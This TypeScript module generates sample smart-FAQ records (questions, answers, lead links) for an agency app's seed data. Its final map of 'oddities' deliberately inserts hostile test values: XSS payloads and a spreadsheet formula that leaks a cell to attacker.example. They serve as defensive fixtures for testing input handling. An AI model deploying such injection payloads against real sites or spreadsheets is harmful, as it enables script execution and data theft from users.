import type { smartFaq } from '../db/schema.ts';
import type { SampleAgency, SampleSource } from './agencies.ts';
import { SAMPLE_AGENCY } from './identity.ts';
import { faqTextsAt, talkAt } from './languages.ts';
import { aLead } from './lead.ts';
import { phrase, withChoices, withSlots } from './phrase.ts';
import { opaqueId, Random } from './random.ts';
import type { FaqText, Slots } from './texts.ts';
import type { Timeline } from './timeline.ts';
import { wordsFor } from './words.ts';

type SmartFaqRow = typeof smartFaq.$inferInsert;

const FAQS_OF_SAMPLE = 1200;
const FAQS_OF_SECOND = 30;

/** The number of newest leads that may have asked a question. */
const ASKING_LEADS = 1200;

const MOST_TRIES = 200;

/** Returns the smart FAQs of an agency with `leads` leads. The questions of a source differ from each other. */
export function faqsOf(agency: SampleAgency, leads: number, timeline: Timeline): SmartFaqRow[] {
  const leadIds = leadIdsBySource(agency, leads, timeline);
  return askedFaqsOf(agency, timeline).map(({ random, source, isCompressed, question, answer }, index) => ({
    agencyId: agency.id,
    id: opaqueId('faq', agency.seed, index),
    sourceId: source.id,
    question,
    answer: answerOf(random, answer),
    leadIds: leadIdsOf(random, leadIds.get(source.id) ?? [], isCompressed),
    state: isCompressed ? 'compressed' : 'uncompressed',
    ...(agency.testSource && oddityAt(index, agency, agency.testSource)),
  }));
}

type AskedFaq = Asked & {
  /** The random numbers for the remaining fields of the record. */
  random: Random;
  source: SampleSource;
  isCompressed: boolean;
};

/** Returns the questions that leads asked the agency, each with the template and the words it was made of. */
export function askedFaqsOf(agency: SampleAgency, { today }: Pick<Timeline, 'today'>): AskedFaq[] {
  const asked = new Set<string>();
  return Array.from(
    { length: agency.id === SAMPLE_AGENCY.id ? FAQS_OF_SAMPLE : FAQS_OF_SECOND },
    (_, index) => {
      const random = new Random(agency.seed, 'faq', index);
      const source = random.pick(agency.clients);
      const isCompressed = random.chance(0.42);
      return {
        random,
        source,
        isCompressed,
        ...aNewQuestion(random, { source, isCompressed, at: today }, asked),
      };
    },
  );
}

function leadIdsBySource(agency: SampleAgency, leads: number, timeline: Timeline): Map<string, string[]> {
  const ids = new Map<string, string[]>();
  for (let index = 0; index < Math.min(leads, ASKING_LEADS); index++) {
    const { row, source } = aLead(agency, index, leads, timeline);
    ids.set(source.id, [...(ids.get(source.id) ?? []), row.id]);
  }
  return ids;
}

type Asked = {
  question: string;
  answer: string | null;
  /** The FAQ text that contains the question, or the template of the question if it has no answer. */
  about: FaqText | string;
  /** The template after `phrase.ts` has made its choices and before it fills the slots. */
  wording: string;
  /** The word of each slot, also for other templates of the same question. */
  slots: Slots;
};

type QuestionKind = { source: SampleSource; isCompressed: boolean; at: number };

/** Creates random questions until the source does not have the question yet. */
function aNewQuestion(random: Random, kind: QuestionKind, asked: Set<string>): Asked {
  const { source } = kind;
  for (let tries = 0; tries < MOST_TRIES; tries++) {
    const drawn = aQuestion(random, kind);
    const key = `${source.id} ${drawn.question}`;
    if (asked.has(key)) continue;
    asked.add(key);
    return drawn;
  }
  throw new Error(`There is nothing new to ask at ${source.name}.`);
}

/**
 * Creates a question. A compressed question has tidy wording, because it represents many questions. Every other
 * question has the wording of a lead.
 */
function aQuestion(random: Random, { source, isCompressed, at }: QuestionKind): Asked {
  const language = random.weighted(source.market.languages);
  const talk = talkAt(source, language);
  const slots = oneOfEach(random, wordsFor(random, source, talk, { first: null, at }));
  // Some questions that are not compressed have no answer yet.
  if (!isCompressed && random.chance(0.3)) {
    const about = random.pick(talk.questions);
    const wording = withChoices(random, about);
    return { question: withSlots(random, wording, slots), answer: null, about, wording, slots };
  }
  const about = random.pick(faqTextsAt(source, language));
  const isTidy = isCompressed && random.chance(0.75);
  const wording = withChoices(random, isTidy ? about.asked[0] : random.pick(about.asked));
  const question = withSlots(random, wording, slots);
  return {
    question: isCompressed ? question : asTyped(random, question),
    answer: phrase(random, about.answer, slots),
    about,
    wording,
    slots,
  };
}

/** Picks one word for each slot, so that an answer uses the same words as its question. */
function oneOfEach(random: Random, slots: Slots): Slots {
  return Object.fromEntries(
    Object.entries(slots).map(([name, words]) => [name, words.length === 0 ? [] : [random.pick(words)]]),
  );
}

/**
 * Returns the question as a lead may have typed it, e.g. in lower case. The service can still recognise it as similar.
 */
function asTyped(random: Random, question: string): string {
  return random.weighted([
    [question, 50],
    [question.toLowerCase(), 12],
    [question.replace(/\s*[?؟.]$/, ''), 12],
    [question.replace(/\?$/, '??'), 8],
    [`${question} 🙏`, 5],
    [` ${question}\n`, 3],
    [`Hi, ${question}`, 2],
  ]);
}

function answerOf(random: Random, answer: string | null): string | null {
  return random.weighted([
    [answer, 74],
    [null, 20],
    ['', 4],
    ['  \n', 2],
  ]);
}

function leadIdsOf(random: Random, ids: readonly string[], isCompressed: boolean): string[] | null {
  if (random.chance(0.02)) return null;
  return random.some(ids, isCompressed ? random.int(2, 14) : random.pick([0, 1, 1, 1, 1, 1, 2]));
}

/** Returns the fields of the smart FAQ at `index` that an oddity replaces, or undefined if there is none. */
function oddityAt(index: number, agency: SampleAgency, testSource: SampleSource) {
  const oddity = ODDITIES.get(index)?.(agency);
  // Without `leadIds`, the FAQ is last in the list, which is sorted by the number of leads.
  return oddity && { sourceId: testSource.id, leadIds: [], ...oddity };
}

/** Valid but unusual field values, by the index of their smart FAQ. */
const ODDITIES = new Map<number, (agency: SampleAgency) => Partial<SmartFaqRow>>([
  [11, () => ({ question: '<script>alert(1)</script>', answer: '<img src=x onerror=alert(1)>' })],
  [
    12,
    () => ({ question: '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")', answer: '@SUM(1+1)' }),
  ],
  [13, () => ({ question: null, answer: null })],
  [14, () => ({ question: '' })],
  [15, () => ({ answer: 'See the price list, page 4. '.repeat(150) })],
  [16, () => ({ question: 'Why? '.repeat(400) })],
  [17, (agency) => ({ sourceId: agency.removedSourceId })],
  [18, () => ({ state: null })],
  [19, () => ({ question: 'כמה זה עולה? (בערך 3,500?)', answer: null })],
]);
